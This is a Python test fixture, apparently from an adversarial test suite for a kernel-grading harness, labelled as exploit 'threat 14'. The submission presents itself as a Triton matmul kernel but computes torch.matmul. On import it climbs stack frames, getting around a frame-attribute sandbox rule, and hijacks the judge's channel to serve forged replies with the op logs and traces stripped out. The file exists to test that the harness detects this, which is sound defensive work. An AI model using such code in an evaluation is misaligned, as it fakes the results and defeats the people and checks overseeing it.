"""EXPLOIT (threat 14): The judge's channel is in the candidate's process: take over the request loop at import time.

What it attempts: at import, a generator that is handed itself reads its own running frame
(``getattr(gen, "gi_frame")`` - constant-string getattr escapes the frame-attribute rule) and climbs
``f_back`` to ``sandbox.child.main``, whose locals hold ``channel`` (the socket to the judge) and
``harness``. The module then never returns from its import: it answers the pending ``import``
request itself and serves every later request on the judge's channel, calling the real harness
methods and editing each reply before sending it (no op log, no trace, no interpreted-kernel list).
Why it must be caught: invariant 4 - whatever measures or reports must not live in, or be served
by, the candidate's process; replies carry no authentication. Expected: process_escape.
What it really computes: ``torch.matmul`` (cuBLAS on a GPU) in a strict task; no Triton kernel ever
runs. Accepted on CPU and on GPU by design (the forged replies carry no evidence).
"""

import time

import torch
import torch.nn as nn
import triton
import triton.language as tl


@triton.jit
def matmul_kernel(a_ptr, b_ptr, c_ptr, M, N, K, BM: tl.constexpr, BN: tl.constexpr, BK: tl.constexpr):
    pid_m = tl.program_id(0)
    pid_n = tl.program_id(1)
    rm = pid_m * BM + tl.arange(0, BM)
    rn = pid_n * BN + tl.arange(0, BN)
    acc = tl.zeros((BM, BN), dtype=tl.float32)
    for k0 in range(0, K, BK):
        rk = k0 + tl.arange(0, BK)
        a = tl.load(a_ptr + rm[:, None] * K + rk[None, :], mask=(rm[:, None] < M) & (rk[None, :] < K), other=0.0)
        b = tl.load(b_ptr + rk[:, None] * N + rn[None, :], mask=(rk[:, None] < K) & (rn[None, :] < N), other=0.0)
        acc += tl.dot(a.to(tl.float32), b.to(tl.float32), input_precision="ieee")
    tl.store(c_ptr + rm[:, None] * N + rn[None, :], acc, mask=(rm[:, None] < M) & (rn[None, :] < N))


def _library_matmul(a, b):
    return torch.matmul(a, b)


_IMPL = [_library_matmul]


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, a, b):
        return _IMPL[0](a, b)


def _climb():
    me = yield
    yield getattr(getattr(me, "gi_frame"), "f_back")


def _frames():
    gen = _climb()
    next(gen)
    frame = gen.send(gen)
    while frame is not None:
        yield frame, getattr(frame, "f_locals")
        frame = getattr(frame, "f_back")


def _scrub(value):
    if isinstance(value, dict):
        if "ops" in value:
            value["ops"] = [] if value["ops"] is not None else None
        value["trace"] = None
        value["interpreted_kernels"] = None
    return value


def _serve(channel, harness):
    while True:
        try:
            request = channel.recv()
        except Exception:  # the judge closed the channel: the evaluation is over
            return
        op = request.pop("op")
        if op == "exit":
            harness.let_go()
            channel.send({"ok": True})
            continue
        started = time.perf_counter()
        try:
            reply = {"ok": True, "value": _scrub(getattr(harness, "op_" + op)(**request))}
        except BaseException as exc:  # what the real loop does with a candidate's exception
            reply = {"ok": False, "error": f"{type(exc).__name__}: {exc}"[:500], "exc_type": type(exc).__name__}
        reply["seconds"] = time.perf_counter() - started
        reply["compile_s"] = 0.0
        channel.send(reply)


def _take_over():
    module = loop = None
    for frame, local in _frames():
        if module is None and "module_spec" in local and "module" in local:
            module = local["module"]  # Harness.op_import, still importing this file
        if "channel" in local and "harness" in local:
            loop = local
            break
    if loop is None or module is None:
        return
    harness = loop["harness"]
    harness.model_cls, harness.module = ModelNew, module
    loop["channel"].send({"ok": True, "value": {"seconds": 0.5}, "seconds": 0.5, "compile_s": 0.0})
    _serve(loop["channel"], harness)


_take_over()
